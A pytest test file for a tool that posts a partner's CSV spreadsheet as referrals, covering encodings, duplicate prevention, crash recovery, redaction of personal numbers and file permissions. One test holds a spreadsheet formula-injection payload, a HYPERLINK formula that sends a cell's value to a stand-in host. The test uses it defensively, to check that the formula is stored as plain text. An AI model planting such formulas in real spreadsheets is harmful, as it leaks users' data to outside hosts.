"""A partner's spreadsheet becomes referrals: each row surely, and once."""

import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from partners.csv_files import posting
from tests.network import REPOSITORY, RunningNetwork
from tests.through_their_own_systems.csv_sheets import (
    HEADER,
    Ran,
    cells,
    numbers_by_reference,
    report_of,
    run,
    written,
)

AGENCY = "anshin-otsuka"
MY_NUMBER = "1234 5678 9018"  # the check digit is right; it is nobody's


def posted(network: RunningNetwork, file: Path, *how: str) -> Ran:
    return run(network, "post", file, "--agency", AGENCY, *how)


@pytest.mark.parametrize("encoding", ["cp932", "utf-8", "utf-8-sig", "utf-16"])
def test_a_sheet_of_excel_becomes_referrals(
    network: RunningNetwork, tmp_path: Path, encoding: str
) -> None:
    rows = [cells(f"{encoding}-{n}", name="髙橋 見本①", born="Ｓ５５.４.１") for n in range(3)]
    file = written(tmp_path / "in.csv", *rows, encoding=encoding)
    done = posted(network, file)
    assert done.returncode == 0, done.stderr
    report = report_of(file)
    assert [row["status"] for row in report] == ["accepted"] * 3
    assert [row["line"] for row in report] == ["2", "3", "4"]
    given = network.partner(AGENCY).reads(report[0]["number"]).body
    assert given["person"] == {
        "name": "髙橋 見本①", "birth_date": "1980-04-01", "emergency_contacts": [],
    }  # fmt: skip
    assert (given["function"], given["urgency"]) == ("consultation", "routine")
    assert given["consent"]["obtained_at"] == "2026-11-20T16:50:00+09:00"


def test_one_broken_row_stops_all_or_is_left_out_by_choice(
    network: RunningNetwork, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(posting, "BATCH", 50)  # ten thousand rows: benchmarks/csv_rows.py
    rows = [cells(f"broken-{n:04}") for n in range(80)]
    rows[67] = cells("broken-0067", address="新宿区西新宿二丁目8番1号")
    file = written(tmp_path / "in.csv", *rows)
    done = posted(network, file)
    assert done.returncode == 1
    report = report_of(file)
    (wrong,) = [row for row in report if row["status"] != "not_sent"]
    assert (wrong["line"], wrong["status"]) == ("69", "refused")
    assert wrong["errors"].startswith("住所: ")
    assert "新宿" not in str(report)
    assert numbers_by_reference(network, "broken-") == {}

    done = posted(network, file, "--partial")
    assert done.returncode == 1
    assert "accepted 79, refused 1" in done.stdout
    found = numbers_by_reference(network, "broken-")
    assert len(found) == 79
    assert all(len(numbers) == 1 for numbers in found.values())
    by_reference = {r["sender_reference"]: r["number"] for r in report_of(file) if r["number"]}
    assert by_reference == {reference: number for reference, (number,) in found.items()}


def test_after_kill_9_in_the_middle_each_row_is_one_referral(
    network: RunningNetwork, tmp_path: Path
) -> None:
    file = written(tmp_path / "in.csv", *(cells(f"killed-{n:04}") for n in range(120)))
    state = file.with_name("in.csv.report.csv.state")
    program = "from partners.csv_files.commands import app; app()"
    arguments = ["post", str(file), "--agency", AGENCY]
    for _ in range(2):
        before = state.read_bytes().count(b"\n") if state.exists() else 0
        process = subprocess.Popen(
            [sys.executable, "-c", program, *arguments, "--resume"],
            env={**os.environ, **network.settings.environment()},
            cwd=REPOSITORY,
        )
        until = time.monotonic() + 30
        while not state.exists() or state.read_bytes().count(b"\n") < before + 20:
            assert process.poll() is None
            assert time.monotonic() < until
            time.sleep(0.005)
        process.send_signal(signal.SIGKILL)
        process.wait()
    assert 36 <= len(numbers_by_reference(network, "killed-")) < 120
    # Half a line at the end, as a kill in the middle of a write would leave it.
    state.write_bytes(state.read_bytes() + b'{"key":"csv-')
    assert posted(network, file).returncode == 2  # not by accident
    done = posted(network, file, "--resume")
    assert done.returncode == 0, done.stderr
    found = numbers_by_reference(network, "killed-")
    assert len(found) == 120
    assert all(len(numbers) == 1 for numbers in found.values())
    assert {r["number"] for r in report_of(file)} == {n for (n,) in found.values()}


def test_the_same_file_again_is_the_same_referrals_also_where_nothing_is_remembered(
    network: RunningNetwork, tmp_path: Path
) -> None:
    file = written(tmp_path / "in.csv", *(cells(f"again-{n}") for n in range(20)))
    assert posted(network, file).returncode == 0
    other = tmp_path / "another.csv"
    # Another machine, another encoding, the rows in another order.
    written(other, *(cells(f"again-{n}") for n in reversed(range(20))), encoding="utf-8-sig")
    assert posted(network, other).returncode == 0
    found = numbers_by_reference(network, "again-")
    assert [len(numbers) for numbers in found.values()] == [1] * 20


def test_a_reference_that_was_accepted_with_other_contents_is_not_posted_anew(
    network: RunningNetwork, tmp_path: Path
) -> None:
    file = written(tmp_path / "in.csv", cells("twice-1"), cells("twice-2"))
    assert posted(network, file).returncode == 0
    (number,) = numbers_by_reference(network, "twice-1")["twice-1"]
    written(file, cells("twice-1", summary="書き直した。"), cells("twice-2"), cells("twice-3"))
    assert posted(network, file, "--resume", "--partial").returncode == 1
    report = report_of(file)
    assert [row["status"] for row in report] == ["refused", "accepted", "accepted"]
    assert number in report[0]["errors"]
    assert [len(n) for n in numbers_by_reference(network, "twice-").values()] == [1, 1, 1]


def test_a_row_without_a_reference_that_was_changed_after_it_was_accepted_is_not_posted_anew(
    network: RunningNetwork, tmp_path: Path
) -> None:
    rows = [cells("", summary=f"電話は 0{n}。") for n in range(3)]
    file = written(tmp_path / "in.csv", *rows)
    assert posted(network, file).returncode == 0
    report = report_of(file)
    held = network.rows("referral", "SELECT count(*) FROM referrals")
    # Excel takes the leading zeros off.
    written(file, *(cells("", summary=row[6].replace("0", "")) for row in rows[:2]), rows[2])
    done = posted(network, file, "--resume", "--partial")
    assert (done.returncode, "2 " in done.stderr) == (3, True)
    assert report_of(file) == report, "what was accepted is still told"
    assert network.rows("referral", "SELECT count(*) FROM referrals") == held
    # Rows may be added, and moved.
    written(file, cells("", summary="もう一件。"), *reversed(rows))
    assert posted(network, file, "--resume").returncode == 0
    assert [row["number"] for row in report_of(file)[1:]] == [
        row["number"] for row in reversed(report)
    ]


def test_my_number_in_a_cell_is_told_by_line_and_column_only(
    network: RunningNetwork, tmp_path: Path
) -> None:
    rows = [cells("mine-1"), cells("mine-2", summary=f"番号は{MY_NUMBER}"), cells(MY_NUMBER)]
    file = written(tmp_path / "in.csv", *rows)
    done = posted(network, file)
    assert done.returncode == 1
    report = report_of(file)
    assert [row["status"] for row in report] == ["not_sent", "refused", "refused"]
    assert report[1]["errors"].startswith("状況: 個人番号は扱えません")
    assert report[2]["errors"].startswith("整理番号: ")
    left = "".join(p.read_text("utf-8") for p in tmp_path.iterdir() if p != file)
    for text in (left, done.stdout, done.stderr, network.logs()):
        assert MY_NUMBER not in text
        assert MY_NUMBER.replace(" ", "") not in text
    assert numbers_by_reference(network, "mine-") == {}


def test_a_formula_in_a_cell_is_text_and_is_noted(network: RunningNetwork, tmp_path: Path) -> None:
    text = '=HYPERLINK("http://example.invalid/?"&A1)'
    file = written(tmp_path / "in.csv", cells("formula-1", summary=text))
    assert posted(network, file).returncode == 0
    (row,) = report_of(file)
    assert row["notes"].endswith(": 状況")
    assert network.partner(AGENCY).reads(row["number"]).body["summary"] == text
    assert "HYPERLINK" not in str(row)


def test_what_it_leaves_on_disk_is_for_its_owner_alone(
    network: RunningNetwork, tmp_path: Path
) -> None:
    file = written(tmp_path / "in.csv", cells("mode-1"))
    report = tmp_path / "in.csv.report.csv"
    report.touch(0o644)
    assert posted(network, file).returncode == 0
    for left in (report, tmp_path / "in.csv.report.csv.state"):
        assert stat.S_IMODE(left.stat().st_mode) == 0o600
        assert "サンプル" not in left.read_text("utf-8")


def test_an_unknown_column_is_named_or_passed_over_by_choice(
    network: RunningNetwork, tmp_path: Path
) -> None:
    file = tmp_path / "in.csv"
    text = f"{HEADER},備考（庁内用）\r\n{','.join(cells('unknown-1'))},x\r\n"
    file.write_bytes(text.encode("cp932"))
    done = posted(network, file)
    assert (done.returncode, "備考（庁内用）" in done.stderr) == (2, True)
    assert numbers_by_reference(network, "unknown-") == {}
    assert posted(network, file, "--ignore-unknown").returncode == 0
    assert len(numbers_by_reference(network, "unknown-")) == 1


def test_the_key_goes_over_no_plain_line_and_a_wrong_one_is_told(
    network: RunningNetwork, tmp_path: Path
) -> None:
    file = written(tmp_path / "in.csv", cells("key-1"))
    done = posted(network, file, "--url", "http://tsunagu.example.invalid")
    assert (done.returncode, "https://" in done.stderr) == (3, True)
    key = tmp_path / "key"
    key.write_text("tsunagu_nobody")
    done = posted(network, file, "--key-file", str(key))
    assert (done.returncode, "chmod 600" in done.stderr) == (3, True)
    key.chmod(0o600)
    done = posted(network, file, "--key-file", str(key))
    assert (done.returncode, "401" in done.stderr) == (3, True)


def test_the_template_is_filled_in_and_sent_but_not_its_sample(
    network: RunningNetwork, tmp_path: Path
) -> None:
    file = tmp_path / "in.csv"
    assert run(network, "template", "--out", file, "--encoding", "cp932").returncode == 0
    assert run(network, "template", "--out", file).returncode == 2  # it is there
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    # By mistake: refused, for a sample's basis discloses nothing.
    assert posted(network, file).returncode == 1
    assert {fault.partition(":")[0] for fault in report_of(file)[0]["errors"].splitlines()} <= {
        "本人", "住所",
    }  # fmt: skip
    filled = file.read_bytes().decode("cp932").replace('"N"', '"本人の口頭による同意(記録あり)"')
    file.write_bytes(filled.encode("cp932"))
    assert posted(network, file).returncode == 0
    (row,) = report_of(file)
    given = network.partner(AGENCY).reads(row["number"]).body
    assert given["consent_basis"] == "C2"
    assert [c["name"] for c in given["person"]["emergency_contacts"]] == [
        "サンプル 次郎", "サンプル 三郎",
    ]  # fmt: skip
